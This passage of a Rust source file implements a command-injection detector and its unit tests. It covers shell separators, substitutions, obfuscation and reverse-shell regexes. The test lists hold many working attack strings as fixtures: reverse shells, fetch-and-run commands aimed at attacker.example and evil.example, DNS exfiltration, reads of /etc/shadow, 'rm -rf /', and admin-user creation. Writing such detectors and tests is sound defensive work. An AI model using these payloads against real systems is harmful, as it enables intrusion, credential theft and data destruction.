        // `sudo cat ...`: the command is the next word; `sudo -l` is reconnaissance itself.
        let (next_at, _) = skip_blanks(value, end);
        let next = (follow_prefix && next_at > end).then(|| command_after_prefix(value, next_at, false));
        if let Some(command) = next.flatten() {
            return Some(command);
        }
        let (tokens, stop, ifs_args) = read_args(value, end);
        let tricks = word_tricks || glob || ifs_before || ifs_args;
        return Some(Command { name, policy: Info, strength, tricks, tokens, stop });
    }
    let (tokens, stop, ifs_args) = read_args(value, end);
    Some(Command {
        name,
        policy,
        strength,
        tricks: word_tricks || glob || ifs_before || ifs_args,
        tokens,
        stop,
    })
}

/// What follows a command that stopped at `stop`.
fn tail(value: &str, stop: Stop, closer: Option<char>, depth: usize) -> Tail {
    match stop {
        Stop::End => Tail::End,
        Stop::Close { at, ch } if Some(ch) == closer => {
            // Words after a space, anywhere after the substitution: it sits in a sentence.
            let after = window(value, at + ch.len_utf8(), WINDOW);
            let mut spaced = after.split(char::is_whitespace).skip(1);
            Tail::Closed { prose_after: spaced.any(|word| word.starts_with(char::is_alphabetic)) }
        }
        Stop::Separator { at, len, pipe } => {
            let (next, _) = skip_blanks(value, at + len);
            let rest = window(value, next, WINDOW);
            // What is left balances the application's quoting (`;('`, `|"`) or is a comment.
            let balancing =
                |c: char| c.is_whitespace() || matches!(c, '\'' | '"' | '|' | ';' | '&' | '(' | ')' | '`');
            let ends_here = next + rest.len() == value.len() && rest.chars().all(balancing);
            if ends_here || rest.starts_with('#') {
                return Tail::End;
            }
            match chained(value, next, pipe, closer, depth + 1) {
                Some(tail) => tail,
                None => Tail::Other,
            }
        }
        _ => Tail::Other,
    }
}

/// A valid command at `at` continuing a chain.
fn chained(value: &str, at: usize, pipe: bool, closer: Option<char>, depth: usize) -> Option<Tail> {
    let command = command_at(value, at)?;
    if depth >= MAX_CHAIN {
        return Some(Tail::Chain { interpreter: false });
    }
    // After a pipe, file readers read standard input: `id | base64`, `cat x | grep root`.
    let reads_stdin = pipe
        && command.policy == File
        && command.tokens.iter().filter(|t| t.kind == Kind::Word).count() <= 1
        && command
            .tokens
            .iter()
            .all(|t| matches!(t.kind, Kind::Option | Kind::Word | Kind::Number | Kind::Quoted));
    let evidence = match fit(command.name, command.policy, command.strength, &command.tokens) {
        Some(evidence) => evidence,
        None if reads_stdin => Evidence::Bare,
        None => return None,
    };
    let interpreter = pipe && command.policy == Interpreter && evidence == Evidence::Bare;
    let next = tail(value, command.stop, closer, depth);
    let bare = matches!(evidence, Evidence::Bare | Evidence::Words);
    if bare && !interpreter && matches!(next, Tail::Other) {
        return None;
    }
    Some(Tail::Chain { interpreter: interpreter || matches!(next, Tail::Chain { interpreter: true }) })
}

/// Precomputed facts about the value that classify the text before each opener in
/// constant time (so the scan stays linear).
struct Prefixes {
    /// First byte that is not whitespace, a quote or a closing bracket.
    content_start: usize,
    /// End of the run of letters that starts at `content_start`.
    word_end: usize,
    /// First whitespace after `content_start`.
    first_space: usize,
    /// First Markdown code fence.
    first_fence: usize,
    /// First `=` or `?` (a URL query or a key=value list).
    first_query: usize,
    /// The opener that directly follows a command line at the start of the value
    /// (`ping -c 1 x; id`), if any.
    after_leading_command: Option<usize>,
}

impl Prefixes {
    fn new(value: &str) -> Prefixes {
        let content_start = value
            .char_indices()
            .find(|(_, c)| !(c.is_whitespace() || matches!(c, '\'' | '"' | ')' | ']' | '}')))
            .map_or(value.len(), |(i, _)| i);
        let rest = value.get(content_start..).unwrap_or_default();
        let word_len =
            rest.find(|c: char| !(c.is_alphabetic() || c == '-' || c == '_')).unwrap_or(rest.len());
        let first_space = rest.find(char::is_whitespace).map_or(value.len(), |i| content_start + i);
        let after_leading_command = command_at(value, content_start).and_then(|command| {
            let evidence = fit(command.name, command.policy, command.strength, &command.tokens)?;
            (evidence == Evidence::Args).then(|| command.stop.at(value))
        });
        Prefixes {
            content_start,
            word_end: content_start + word_len,
            first_space,
            first_fence: value.find("```").unwrap_or(value.len()),
            first_query: value.find(['=', '?']).unwrap_or(value.len()),
            after_leading_command,
        }
    }

    /// What the text before the opener at `at` looks like.
    /// What the text before the opener at `at` looks like; `end` is where that text ends
    /// without its trailing whitespace (tracked by the scan: trimming here would make a run
    /// of line breaks, each an opener, quadratic).
    fn before(&self, value: &str, at: usize, end: usize, opener: Opener) -> Before {
        if end <= self.content_start {
            return Before::Nothing;
        }
        if self.after_leading_command == Some(at) {
            return Before::Data;
        }
        let last = value.get(..end).unwrap_or_default().chars().next_back();
        let intro =
            opener == Opener::Newline && last.is_some_and(|c| matches!(c, ':' | ',' | '!' | '?' | '.'));
        if self.first_space < end || self.first_fence < end || intro {
            return Before::Prose;
        }
        if end <= self.word_end { Before::Word } else { Before::Data }
    }
}

fn scan(value: &str) -> Option<Match> {
    let prefixes = Prefixes::new(value);
    if let Some(found) = at_value_start(value, &prefixes) {
        return Some(found);
    }
    let bytes = value.as_bytes();
    let mut backticks = 0usize;
    let mut at = 0;
    // End of the text before `at` without trailing whitespace (non-ASCII bytes count as
    // text).
    let mut content_end = 0;
    let advance = |at: &mut usize, len: usize, content_end: &mut usize| {
        for i in *at..*at + len {
            if bytes.get(i).is_some_and(|b| !b.is_ascii_whitespace()) {
                *content_end = i + 1;
            }
        }
        *at += len;
    };
    while let Some(&byte) = bytes.get(at) {
        let next = bytes.get(at + 1).copied();
        let (opener, len) = match byte {
            b';' => (Opener::Semicolon, 1),
            b'|' if next == Some(b'|') => (Opener::OrOr, 2),
            b'|' => (Opener::Pipe, 1),
            b'&' if next == Some(b'&') => (Opener::AndAnd, 2),
            b'&' => (Opener::Amp, 1),
            b'\n' => (Opener::Newline, 1),
            b'\r' => (Opener::Newline, if next == Some(b'\n') { 2 } else { 1 }),
            b'`' => {
                backticks += 1;
                // Only an opening backtick starts a substitution.
                if backticks.is_multiple_of(2) {
                    advance(&mut at, 1, &mut content_end);
                    continue;
                }
                (Opener::Backtick, 1)
            }
            b'$' if next == Some(b'(') && bytes.get(at + 2) != Some(&b'(') => (Opener::Dollar, 2),
            _ => {
                advance(&mut at, 1, &mut content_end);
                continue;
            }
        };
        if let Some(found) = judge(value, &prefixes, at, content_end, len, opener) {
            return Some(found);
        }
        advance(&mut at, len, &mut content_end);
    }
    None
}

/// A brace expansion or `%COMSPEC%` at the start of the value.
fn at_value_start(value: &str, prefixes: &Prefixes) -> Option<Match> {
    let start = prefixes.content_start;
    if peek(value, start) == Some('{') {
        return brace(value, start, Before::Nothing);
    }
    if starts_with_ci(value, start, "%comspec%") {
        let command = command_at(value, start)?;
        fit(command.name, command.policy, command.strength, &command.tokens)?;
        return Some(Match::new("cmdi.windows_env", start..command.stop.at(value)));
    }
    None
}

/// `{cat,/etc/passwd}`: brace expansion at a command position.
fn brace(value: &str, at: usize, before: Before) -> Option<Match> {
    let body_start = at + 1;
    let body = window(value, body_start, 128);
    let close = body.find('}')?;
    let body = body.get(..close)?;
    if body.contains(char::is_whitespace) || !body.contains(',') {
        return None;
    }
    let mut parts = body.split(',');
    let word: String = parts
        .next()?
        .chars()
        .filter(|c| !matches!(c, '\'' | '"' | '\\'))
        .collect::<String>()
        .to_ascii_lowercase();
    let ((name, policy, strength), _) = resolve(&word)?;
    let tokens: Vec<Token> = parts
        .filter(|part| !part.is_empty())
        .map(|part| Token { text: part.to_owned(), kind: classify(part) })
        .collect();
    let evidence = fit(name, policy, strength, &tokens)?;
    let span = at..body_start + close + 1;
    let command = Command { name, policy, strength, tricks: true, tokens, stop: Stop::End };
    let ok = evidence == Evidence::Args || unmistakable(&command) || before != Before::Prose;
    ok.then(|| Match::new("cmdi.brace_expansion", span))
}

/// Decides whether the opener at `at` (of `len` bytes) starts an injected command;
/// `content_end` is where the text before it ends, trailing whitespace excluded.
fn judge(
    value: &str,
    prefixes: &Prefixes,
    at: usize,
    content_end: usize,
    len: usize,
    opener: Opener,
) -> Option<Match> {
    let before = prefixes.before(value, at, content_end, opener);
    // `&` inside a URL or a key=value list separates parameters.
    if opener == Opener::Amp
        && prefixes.first_query < at
        && !value.get(..at).unwrap_or_default().ends_with(char::is_whitespace)
    {
        return None;
    }
    let (command_start, _) = skip_blanks(value, at + len);
    if peek(value, command_start) == Some('{') {
        return brace(value, command_start, before);
    }
    let command = if opener == Opener::Dollar && peek(value, command_start) == Some('<') {
        // `$(<file)`: bash reads the file without any command.
        let (file_at, _) = skip_blanks(value, command_start + 1);
        let (token, end) = read_token(value, file_at, file_at.saturating_add(WINDOW));
        let (_, stop, _) = read_args(value, end);
        let name = "cat";
        Command { name, policy: File, strength: Weak, tricks: false, tokens: vec![token], stop }
    } else {
        command_at(value, at + len)?
    };
    let evidence = fit(command.name, command.policy, command.strength, &command.tokens)?;
    let closer = opener.closer();
    let tail = tail(value, command.stop, closer, 0);
    let end = match command.stop {
        Stop::Close { at, ch } if Some(ch) == closer => at + ch.len_utf8(),
        stop => stop.at(value),
    };
    let span = at..end.max(at + len);
    let substitution = closer.is_some();
    if substitution
        && !matches!(command.stop, Stop::Close { .. } | Stop::Separator { .. })
        && evidence != Evidence::Args
    {
        return None;
    }
    let rule = if command.tricks {
        "cmdi.obfuscated_command"
    } else if substitution {
        "cmdi.substitution"
    } else {
        "cmdi.separator_command"
    };
    let report = Some(Match::new(rule, span.clone()));
    if unmistakable(&command) {
        return report;
    }
    // A code span after a space is a word of its own: Markdown, not a substitution glued
    // to data (``127.0.0.1`id` ``).
    let detached = substitution
        && before != Before::Nothing
        && value.get(..at).unwrap_or_default().ends_with(char::is_whitespace)
        && !glued_after(value, end);
    let prose = before == Before::Prose || detached || matches!(tail, Tail::Closed { prose_after: true });
    if command.tricks && !prose {
        return report;
    }
    if prose {
        return None;
    }
    match evidence {
        Evidence::Args => report,
        Evidence::Bare | Evidence::Words => {
            let tail_ok = matches!(tail, Tail::End | Tail::Chain { .. } | Tail::Closed { .. });
            let interpreter = command.policy == Interpreter;
            // `name|id`, `Name & ID`: search syntax and prose, not a pipe.
            let listy = before == Before::Word
                && (evidence == Evidence::Words
                    || (command.strength == Weak && matches!(opener, Opener::Pipe | Opener::Amp)));
            (tail_ok && !interpreter && !listy).then_some(Match::new(rule, span))
        }
    }
}

/// Whether the text right after a substitution ending at `end` continues the same word
/// (`` `whoami`.attacker.example ``), which a Markdown code span would not.
fn glued_after(value: &str, end: usize) -> bool {
    let mut after = value.get(end..).unwrap_or_default().chars();
    match after.next() {
        Some(c) if c.is_alphanumeric() => true,
        Some('.' | '-' | '/' | '_' | ':') => after.next().is_some_and(char::is_alphanumeric),
        _ => false,
    }
}

/// Reverse shells and in-memory downloaders, recognisable anywhere.
fn reverse_shell(value: &str) -> Option<Match> {
    static REVERSE: LazyLock<Option<Regex>> = LazyLock::new(|| {
        Regex::new(concat!(
            r"(?i)/dev/(?:tcp|udp)/[\w.-]+/\d+",
            r"|\b(?:nc|ncat|netcat)(?:\.exe)?\b[^;|&\n]{0,80}?\s-[a-z]*[ec]\s*(?:/bin/|/usr/bin/)?(?:ba|z|da)?sh\b",
            r"|\b(?:nc|ncat|netcat)(?:\.exe)?\b[^;|&\n]{0,80}?\s-[a-z]*e\s*cmd(?:\.exe)?\b",
            r"|new-object\s+(?:system\.)?net\.sockets\.tcpclient",
            r"|\biex\s*\(\s*(?:new-object\s+(?:system\.)?net\.webclient|\(\s*new-object)",
            r"|pty\.spawn\(\s*['\x22]/bin/(?:ba)?sh",
            r"|\bmkfifo\s+/tmp/\S+\s*;\s*(?:nc|ncat|cat)\b",
        ))
        .ok()
    });
    let found = REVERSE.as_ref()?.find(value)?;
    Some(Match::new("cmdi.reverse_shell", found.range()))
}

/// `<!--#exec cmd="id" -->`: a server-side include directive that runs a command when the
/// value lands in a page the web server parses for includes.
fn server_side_include(value: &str) -> Option<Match> {
    static SSI: LazyLock<Option<Regex>> =
        LazyLock::new(|| Regex::new(r#"(?i)<!--\s*#\s*exec\s+(?:cmd|cgi)\s*=\s*["']?"#).ok());
    if !value.contains("<!--") {
        return None;
    }
    let found = SSI.as_ref()?.find(value)?;
    Some(Match::new("cmdi.server_side_include", found.range()))
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn rule(value: &str) -> Option<&'static str> {
        detect(value).map(|found| found.rule)
    }

    #[test]
    fn separators_then_commands() {
        for value in [
            "; cat /etc/passwd",
            "| id",
            "&& whoami",
            "|| ping -c 3 10.0.0.1",
            "; sleep 10",
            "127.0.0.1; ls -la",
            "127.0.0.1|id",
            "127.0.0.1 && whoami",
            "report.pdf;uname -a",
            "x' ; sleep 5 #",
            "admin\" && id && \"",
            "test;id",
            "test && id",
            "1;whoami;",
            "');whoami;('",
            ";wget attacker.example/shell.sh -O /tmp/s.sh",
            ";id>/tmp/out",
            "; printenv PATH",
            ";nmap -sV 10.0.0.0/24",
            "& wmic process call create calc",
            "; sudo -l",
            "| findstr /s password *.config",
            "&& echo %USERNAME%",
            "& calc.exe",
            "| calc",
            ";ps aux",
            ";id|base64",
            "; ping -n 5 localhost",
            "| wget -qO- http://evil.example/x | sh",
            "&& nslookup $(whoami).attacker.example",
            "x;ping${IFS}-c${IFS}3${IFS}127.0.0.1",
            "& net localgroup administrators",
            "| sh -c id",
            "|id|",
            ";id;",
            "foo\nid",
            "\nwhoami",
            "127.0.0.1\r\ncat /etc/hosts",
            "x || nslookup attacker.example",
            "a;wget http://203.0.113.5/x -O /tmp/x;chmod +x /tmp/x;/tmp/x",
            ";curl http://x|sh",
            "x; rm -rf /",
            "| dir c:\\",
            "& ver",
            "& type C:\\Windows\\win.ini",
            "& ping -n 10 127.0.0.1",
            "&& net user hacker P@ss1 /add",
            "| powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A",
            "; php -r 'system(\"id\");'",
            "; python3 -c 'import os; os.system(\"id\")'",
            "; timeout /t 10",
            "; /bin/cat /etc/shadow",
            "; cat</etc/passwd",
            "; /usr/bin/id",
            "& C:\\Windows\\System32\\cmd.exe /c whoami",
            "& %COMSPEC% /c dir",
            "; echo 31337",
            "| echo vulnerable",
            "; sudo cat /etc/shadow",
            "ping -c 1 127.0.0.1; whoami",
            "; IFCONFIG",
            "|| WhoAmI",
            "x | certutil -urlcache -split -f http://evil.example/a.exe a.exe",
        ] {
            assert!(
                matches!(rule(value), Some("cmdi.separator_command" | "cmdi.obfuscated_command")),
                "{value:?}: {:?}",
                rule(value)
            );
        }
    }

    #[test]
    fn substitutions() {
        for value in [
            "`id`",
            "$(uname -a)",
            "$(sleep 5)",
            "127.0.0.1`whoami`",
            "x$(id)x",
            "`cat /etc/passwd`",
            "$(curl http://attacker.example/x.sh|bash)",
            "echo $(cat /etc/passwd)",
            "name=`uname -a`",
            "\"$(ping -c 5 10.0.0.1)\"",
            "`ls -la`",
            "$(</etc/passwd)",
            "$(nslookup `whoami`.attacker.example)",
            "1`sleep 5`",
        ] {
            assert_eq!(rule(value), Some("cmdi.substitution"), "{value:?}");
        }
    }

    #[test]
    fn obfuscated_commands_and_braces() {
        for value in [
            ";cat${IFS}/etc/passwd",
            ";cat$IFS$9/etc/passwd",
            "; c'a't /e\"t\"c/pa''sswd",
            ";w\\ho\\am\\i",
            "; /???/c?t /???/p??s??",
            "|/bin/w?o*mi",
            "; \"w\"h\"o\"ami",
            ";c$@at /etc/passwd",
            ";ca${x}t /etc/hosts",
            "$(sleep${IFS}5)",
            "`w\\hoami`",
            "; wh''oami",
            ";\\c\\a\\t /etc/passwd",
            "; $'cat' /etc/passwd",
            ";ca$()t /etc/passwd",
            "& w^h^o^a^m^i",
            "& t^y^p^e C:\\Windows\\win.ini",
            "a;nc${IFS}-e${IFS}/bin/sh${IFS}10.0.0.1${IFS}4444",
        ] {
            assert_eq!(rule(value), Some("cmdi.obfuscated_command"), "{value:?}");
        }
        for value in
            [";{cat,/etc/passwd}", "{cat,/etc/passwd}", "|{ls,-la,/}", "&&{wget,http://203.0.113.9/x}"]
        {
            assert_eq!(rule(value), Some("cmdi.brace_expansion"), "{value:?}");
        }
        assert_eq!(rule("%COMSPEC% /c whoami"), Some("cmdi.windows_env"));
        assert_eq!(rule("<!--#exec cmd=\"id\"-->"), Some("cmdi.server_side_include"));
        assert_eq!(rule("<!-- #EXEC CGI=\"/cgi-bin/x\" -->"), Some("cmdi.server_side_include"));
        assert_eq!(rule("<!-- #include file=\"footer.html\" -->"), None);
    }

    #[test]
    fn reverse_shells_anywhere() {
        for value in [
            "| nc -e /bin/sh 1.2.3.4 4444",
            "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
            "x; nc.exe -e cmd.exe 10.0.0.1 443",
            "$client = New-Object System.Net.Sockets.TCPClient('10.0.0.1',443)",
            "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')",
            "python -c 'import pty;pty.spawn(\"/bin/bash\")'",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
            "ncat 10.0.0.1 4444 -e /bin/bash",
        ] {
            assert_eq!(rule(value), Some("cmdi.reverse_shell"), "{value:?}");
        }
    }

    #[test]
    fn prose_tables_urls_and_snippets_pass() {
        for value in [
            "R&D; sales & marketing",
            "cat food; dog food",
            "sleep 8 hours | eat well",
            "I'm tired; sleep 8 hours is the goal",
            "| id | name |",
            "| id | name | email |\n|----|------|-------|\n| 1 | Ana | ana@example.com |",
            "| id | hostname | ip |",
            "a|b",
            "name|id",
            "email|id|name",
            "name;id;email",
            "Tom & Jerry",
            "Name & ID",
            "Forget & Set",
            "Search & Find",
            "Photo & ID required",
            "https://example.com/search?q=shoes&id=42&sort=asc",
            "https://example.com/?a=1&ping",
            "page=2&sort=name&id",
            "run `ls -la` in the folder",
            "Use `cat config.yml` to see the settings",
            "Run `whoami` and send me the output please",
            "The script does `echo $(date)` at startup",
            "export PATH=$(pwd)/bin:$PATH is in my profile",
            "$(document).ready(function() { init(); });",
            "$(this).hide();",
            "Thanks!\nping me when it's deployed",
            "Hi,\nid like to ask about my order",
            "I ran:\nls -la /var/log\ncat app.log",
            "Steps:\n1. Open the app\n2. Click login",
            "```\nls -la\ncd build && make\n```",
            "Install with curl -fsSL https://get.example.com | sh",
            "Try: npm install && npm start",
            "cd build && make install",
            "Python; Ruby; Go",
            "python;bash;sql",
            "skills: linux|bash|python",
            "cat|dog|bird",
            "Cats & Dogs; Birds & Fish",
            "We use Python; Python is great",
            "Connection failed; ping 8.8.8.8 works fine though",
            "The shutdown; reboot was needed",
            "Fine; echo what John said earlier",
            "AT&T",
            "Q&A",
            "B&W photos",
            "salt & pepper; oil & vinegar",
            "Drop me a line; I'll update the table or union rep",
            "1 | 2 | 3",
            "price>10 | rating>4",
            "title:foo AND (bar OR baz) -qux",
            "Hello {{name}}; welcome",
            "{\"$schema\": \"https://json-schema.org/draft/2020-12/schema\"}",
            "{\"a\": 1, \"b\": [1, 2]}",
            "{a,b}",
            "I like {cats,dogs}",
            "2*(3+4)",
            "O'Brien; O'Neil & co",
            "Note: type your name; type it again",
            "more info; more details",
            "head office | tail end",
            "Find us; find more",
            "One moment...\nsleep well",
            "env: production; region: eu-west-1",
            "dir: ltr",
            "host: example.com | port: 443",
            "The `id` field is required",
            "see `whoami`",
            "try `kill -9 1234` first",
            "Status\nping 10.0.0.5 ok",
            "Update\nping 10.0.0.5 is failing",
            "| Name | Type | Size |",
            "| cat | 3 |",
            "| id | 42 |",
            "time | date | id",
            "Status|Id",
            "My cat; My dog; My id",
            "news | sports | weather | more",
            "Read the output of $(ls) carefully",
            "Use $(pwd)/bin in your PATH",
            "$(pwd)/bin is on my PATH",
            "price: $(cost)",
            "ps: I forgot",
            "PS; see attached",
            "node | python | go",
            "My setup: node 18 | npm 9",
            "for (i=0; i<10; i++) { sum += i; }",
            "return cached || id;",
            "if (!user || !id) return;",
            "import os; os.system(cmd)",
            "color: red; top: 0; display: none",
            "`id` is the primary key",
            "Press `Ctrl+C` then `Enter`",
            "who | what | where",
            "???",
            "; ???",
            "wait... ???",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
            "_ga=GA1.2.1234.5678; session=abc|def|123; theme=dark",
            "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
            "ID;Name;Email\n1;Ana;ana@example.com",
            "x^2 + y^2; z^2",
            "cat;echo, is great",
            "The deploy script runs `./deploy.sh && echo done` but hangs",
            "const cmd = `ls ${dir}`; exec(cmd);",
            "What does `$(whoami)` do in bash?",
        ] {
            assert_eq!(detect(value), None, "{value:?}");
        }
    }

    #[test]
    fn globs_match_like_a_shell() {
        assert!(glob_matches("c?t", "cat"));
        assert!(glob_matches("w*i", "whoami"));
        assert!(glob_matches("[c]at", "cat"));
        assert!(glob_matches("[a-d]at", "cat"));
        assert!(glob_matches("[!x]at", "cat"));
        assert!(!glob_matches("c?t", "curl"));
        assert!(!glob_matches("[", "cat"));
        assert!(glob_matches("*", "id"));
    }

    /// Repetitive inputs that would make a quadratic scan take minutes finish in well under
    /// the bound even in a debug build on a busy machine.
    #[test]
    fn pathological_inputs_stay_linear() {
        for (unit, times) in [
            ("\n", 40_000),
            ("\r", 40_000),
            (" \n", 20_000),
            ("; sudo", 8_000),
            ("|id", 10_000),
            ("`a` ", 10_000),
            ("$(", 20_000),
            ("x y |id", 5_000),
            ("a;b c;", 8_000),
            ("${IFS}", 8_000),
        ] {
            let value = unit.repeat(times);
            let started = std::time::Instant::now();
            let _ = detect(&value);
            assert!(started.elapsed() < std::time::Duration::from_secs(10), "{unit:?}");
        }
    }

    proptest! {
        #[test]
        fn never_panics_and_spans_stay_inside(value in r"(;|\||&|`|\$\(|\$\{IFS\}|\{|\}|,|'|\x22|\\|/|\?|\*|\n|\r| |id|cat|sleep|ping|whoami|/etc/passwd|[a-z0-9.]){0,40}") {
            if let Some(found) = detect(&value) {
                prop_assert!(found.span.start <= found.span.end);
                prop_assert!(value.get(found.span.clone()).is_some());
            }
        }

        #[test]
        fn arbitrary_text_never_panics(value in ".{0,200}") {
            if let Some(found) = detect(&value) {
                prop_assert!(value.get(found.span.clone()).is_some());
            }
        }
    }
}
